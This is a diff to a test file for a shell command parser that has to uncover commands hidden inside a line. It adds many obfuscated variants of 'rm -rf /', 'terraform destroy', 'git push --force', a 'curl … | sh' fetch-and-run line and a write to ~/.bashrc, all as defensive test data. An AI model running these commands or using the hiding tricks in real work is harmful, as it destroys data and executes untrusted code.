@@ -1,6 +1,8 @@
 """The corpus of shell tricks: every way we know to hide a command inside a line, and the simple
 commands the parser must find underneath. Expected values are read off the lines by hand."""
 
+import re
+
 import pytest
 from hypothesis import given, strategies as st
 
@@ -25,7 +27,7 @@ HIDDEN_RM = [
     ("timeout 5 rm -rf /", ["timeout 5 rm -rf /", "rm -rf /"]),
     ("nice -n 5 rm -rf /", ["nice -n 5 rm -rf /", "rm -rf /"]),
     ("nohup rm -rf / &", ["nohup rm -rf /", "rm -rf /"]),
-    ("find . | xargs rm -rf", ["find .", "xargs rm -rf", "rm -rf"]),
+    ("find . | xargs rm -rf", ["find .", "xargs rm -rf", "rm -rf {input}"]),
     ("\\rm -rf /", ["rm -rf /"]),
     ("r''m -rf /", ["rm -rf /"]),
     ('"rm" -rf /', ["rm -rf /"]),
@@ -45,7 +47,21 @@ HIDDEN_RM = [
     ("env -S 'rm -rf /'", ["env -S rm -rf /", "rm -rf /"]),
     ("watch -n 1 'ls; rm -rf /'", ["watch -n 1 ls; rm -rf /", "ls", "rm -rf /"]),
     ("su -c 'rm -rf /' root", ["su -c rm -rf / root", "rm -rf /", "root"]),
-    ("find . | xargs -I{} sh -c 'rm -rf {}'", ["find .", "xargs -I{} sh -c rm -rf {}", "sh -c rm -rf {}", "rm -rf {}"]),
+    ("find . | xargs -I{} sh -c 'rm -rf {}'",
+     ["find .", "xargs -I{} sh -c rm -rf {}", "sh -c rm -rf {} {input}", "rm -rf {}", "{input}"]),
+    ("find . -exec rm -rf {} +", ["find . -exec rm -rf {} +", "rm -rf {}"]),
+    ("git -C . push --force", ["git -C . push --force", "git push --force"]),
+    ("terraform -chdir=x destroy", ["terraform -chdir=x destroy", "terraform destroy"]),
+    ("sudo -iu root -- rm -rf /", ["sudo -iu root -- rm -rf /", "rm -rf /"]),
+    ("eval -- rm -rf /", ["eval -- rm -rf /", "rm -rf /"]),
+    ("env -vS 'rm -rf /'", ["env -vS rm -rf /", "rm -rf /"]),
+    ("env --split='rm -rf /'", ["env --split=rm -rf /", "rm -rf /"]),
+    ("flock /tmp/l -c 'rm -rf /'", ["flock /tmp/l -c rm -rf /", "rm -rf /"]),
+    ("runuser -u bob -- rm -rf /", ["runuser -u bob -- rm -rf /", "rm -rf /"]),
+    ("busybox rm -rf /", ["busybox rm -rf /", "rm -rf /"]),
+    ("bash <<< 'rm -rf /'", ["rm -rf /", "bash"]),
+    ("./ls -la", ["ls -la", "./ls -la"]),
+    ("{ ls; } > out.txt && rm -rf /", ["ls", "rm -rf /"]),
 ]
 
 
@@ -53,7 +69,8 @@ HIDDEN_RM = [
 def test_hidden_commands_are_found(line, expected):
     parsed = parse_command_line(line)
     assert parsed.commands == expected
-    assert bool(parsed.uncertain) == any(mark in line for mark in ("$", "`", "="))  # expansions, assignments
+    expands_or_assigns = "$" in line or "`" in line or re.search(r"(^|\s)[A-Z_]+=", line)
+    assert bool(parsed.uncertain) == bool(expands_or_assigns)
 
 
 def test_words_are_normalised_quotes_removed_single_spaces():
@@ -66,6 +83,13 @@ def test_words_are_normalised_quotes_removed_single_spaces():
     ("ls 2>&1 > log", ["log"]),
     ("ls 2>&1", []),
     ("ls > 5", ["5"]),
+    ("{ ls; } > out.txt", ["out.txt"]),
+    ("(cat x) >> ~/.bashrc", ["~/.bashrc"]),
+    ("for i in a; do ls; done > out.txt", ["out.txt"]),
+    ("ls &>> out.txt", ["out.txt"]),
+    ("ls <> out.txt", ["out.txt"]),
+    ("ls >&2file", ["2file"]),
+    ("ls < in.txt", []),
     ("make 2>&1 | tee -a build.log > out", ["out"]),
 ])
 def test_redirections_that_write_files_are_reported(line, written):
@@ -94,6 +118,12 @@ def test_what_cannot_be_known_is_uncertain(line):
     "ls ~root",
     "D=/etc; cat x > $D/passwd",
     "env LD_PRELOAD=/tmp/x.so ls",
+    '{ ls; } > "$(rm -rf /)"',
+    "{ ls; } <<A\n$(echo PWNED)\nA",
+    "curl https://example.com/x.sh | sh",
+    "ls\rrm -rf /",
+    "echo !!",
+    "rm -rf /; time true",
 ])
 def test_expansions_and_assignments_are_uncertain(line):
     assert parse_command_line(line).uncertain
@@ -165,9 +195,11 @@ def _both_ways(line):
     return _plain_commands(line) is not None, fast, full
 
 
+# Not '$HOME': bashlex takes a parameter inside single quotes for an expansion (failing closed),
+# where the fast path rightly sees text; test_quote_removal_follows_posix covers that case.
 plain_words = st.sampled_from(["ls", "-la", "rm", "-rf", "/", "git", "status", "sudo", "env", "A=1", "timeout", "5",
                                "xargs", "bash", "-c", "x.txt", "*.py", "a,b", "user@host:/p", "+x", "--force",
-                               "if", "done", "[", "]", "r''m", '"rm"', "'a b'", '"c d"', "a'b c'd", "''", "'$HOME'",
+                               "if", "done", "[", "]", "r''m", '"rm"', "'a b'", '"c d"', "a'b c'd", "''",
                                "'ls && rm -rf /'", '"git push --force"', "sh", "$HOME", "x${USER}y", "${A:-b}",
                                "$", "{a,b}", "{x}", "2", "out.txt", "'>'", "$'x'"])
 separators = st.sampled_from([" ", "  ", " && ", " || ", "; ", " | ", "&&", "|", ";", " > ", ">", " >> ", " 2>&1 ",
